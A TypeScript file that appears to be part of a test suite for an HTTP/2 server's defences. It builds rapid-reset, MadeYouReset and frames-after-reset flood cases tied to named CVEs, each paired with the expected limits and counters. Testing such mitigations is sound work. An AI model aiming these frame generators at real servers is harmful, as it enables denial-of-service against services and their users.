import { data, END_HEADERS, frame, headers, reset, windowUpdate } from '../support/http2-frames.ts'
import { type Attack, goesOn, type Target } from './attack.ts'
import { idOf, PATHS, request } from './hostile-blocks.ts'
import type { HostileWire } from './hostile-wire.ts'

const FEW = 20
/** So many that the limit of a link is passed before it refills. */
const MANY = 500
const DOORS = ['h2c', 'link'] as const
const PROVOKED = 'h2:provoked-reset'

/** Batches of requests, each followed by what `after` says, as fast as they are taken. Past the limit after `limit` of them. */
const hail =
  (limit: number, method: string, after: (id: number) => readonly Buffer[], count = FEW) =>
  async (wire: HostileWire, target: Target): Promise<void> => {
    const begin = request(target, method, PATHS.small)
    const flags = method === 'GET' ? 5 : END_HEADERS
    await wire.begin()
    for (let n = 0; goesOn(wire, target, n / count); n += count) {
      const batch: Buffer[] = []
      for (let i = n; i < n + count; i++) batch.push(headers(idOf(i), begin, flags), ...after(idOf(i)))
      await wire.send(...batch)
      if (n + count > limit) wire.passed()
    }
  }

/** The same, one at a time, evenly: as many in a second as may be. */
const drizzle =
  (perSecond: number, method: string, after: (id: number) => readonly Buffer[]) =>
  async (wire: HostileWire, target: Target): Promise<void> => {
    const begin = request(target, method, PATHS.small)
    await wire.begin()
    for (let n = 0; goesOn(wire, target, n); n++) {
      await wire.send(headers(idOf(n), begin, method === 'GET' ? 5 : END_HEADERS), ...after(idOf(n)))
      await wire.pause(1_000 / perSecond)
    }
  }

/** Requests whose reset comes when the answer has begun: none of them is early. */
async function resetAnswers(wire: HostileWire, target: Target): Promise<void> {
  const begin = request(target, 'GET', PATHS.large)
  await wire.begin()
  let heard = wire.receivedBytes
  for (let n = 0; goesOn(wire, target, n); n++) {
    await wire.send(headers(idOf(n), begin))
    while (wire.receivedBytes === heard && !wire.isCut && !wire.isStopped) await wire.pause(1)
    await wire.send(reset(idOf(n), 8))
    heard = wire.receivedBytes
  }
}

const madeYouReset = (
  how: string,
  limit: number,
  method: string,
  after: (id: number) => readonly Buffer[],
): Attack => ({
  name: `made-you-reset-${how}`,
  doors: DOORS,
  known: 'CVE-2025-8671',
  limit: '50 stream errors of its making, then 5 a second',
  counter: PROVOKED,
  isCut: true,
  run: hail(limit, method, after),
})

const afterReset = (door: 'h2c' | 'link', limit: string, counter: string): Attack => ({
  name: 'frames-after-reset',
  doors: [door],
  known: 'CVE-2026-26311',
  limit,
  counter,
  isCut: true,
  run: hail(50, 'POST', (id) => [reset(id, 8), data(id, 'x'), windowUpdate(id, 9), frame(2, 0, id, '0000000010')]),
})

/** Resets without end, of either side's making. */
export const RESETS: readonly Attack[] = [
  {
    name: 'rapid-reset',
    doors: ['h2c'],
    known: 'CVE-2023-44487',
    limit: '50 requests reset as soon as they are made, then 5 a second',
    counter: 'h2:early-reset',
    isCut: true,
    run: hail(50, 'GET', (id) => [reset(id, 8)]),
  },
  {
    name: 'rapid-reset-link',
    doors: ['link'],
    known: 'CVE-2023-44487',
    limit: '2,000 resets, then 1,000 a second: a link carries the requests of many',
    counter: 'h2:rapid-reset',
    isCut: true,
    run: hail(2_000, 'GET', (id) => [reset(id, 8)], MANY),
  },
  {
    name: 'rapid-reset-answers',
    doors: ['h2c'],
    known: 'CVE-2023-44487, once the answer has begun',
    limit: '200 resets, then 33 a second',
    counter: 'h2:rapid-reset',
    isCut: true,
    isLong: true,
    run: resetAnswers,
  },
  {
    name: 'rapid-reset-below',
    doors: ['h2c'],
    known: 'CVE-2023-44487, below the limit for ever',
    limit: 'none is passed',
    isCut: false,
    run: drizzle(4.9, 'GET', (id) => [reset(id, 8)]),
  },
  {
    name: 'rapid-reset-below-link',
    doors: ['link'],
    known: 'CVE-2023-44487, below the limit for ever',
    limit: 'none is passed',
    isCut: false,
    run: drizzle(900, 'GET', (id) => [reset(id, 8)]),
  },
  madeYouReset('window-update-0', 50, 'POST', (id) => [windowUpdate(id, 0)]),
  madeYouReset('window-overflow', 50, 'POST', (id) => [windowUpdate(id, 2 ** 31 - 1)]),
  madeYouReset('headers-after-end', 50, 'GET', (id) => [headers(id, Buffer.from([0x90]))]),
  madeYouReset('data-after-end', 50, 'GET', (id) => [data(id, 'x')]),
  {
    ...madeYouReset('priority-length', 0, 'POST', (id) => [frame(2, 0, id, '00')]),
    limit: 'one is enough: a connection error',
    counter: 'h2:frame-size-fault',
  },
  {
    ...madeYouReset('self-dependency', 0, 'POST', (id) => [frame(2, 0, id, Buffer.from([0, 0, id >> 8, id & 255, 0]))]),
    limit: 'one is enough: a connection error',
    counter: 'h2:protocol-fault',
  },
  {
    ...madeYouReset('body-too-long', 50, 'POST', () => []),
    run: async (wire, target) => {
      const begin = request(target, 'POST', PATHS.small, 'content-length', '1')
      await wire.begin()
      for (let n = 0; goesOn(wire, target, n); n++) {
        await wire.send(headers(idOf(n), begin, END_HEADERS), data(idOf(n), 'xx'))
        if (n > 50) wire.passed()
      }
    },
  },
  {
    name: 'made-you-reset-below',
    doors: DOORS,
    known: 'CVE-2025-8671, below the limit for ever',
    limit: 'none is passed',
    isCut: false,
    run: drizzle(4.9, 'POST', (id) => [windowUpdate(id, 0)]),
  },
  afterReset('h2c', '50 requests reset as soon as they are made', 'h2:early-reset'),
  afterReset('link', '50 stream errors of its making', PROVOKED),
]
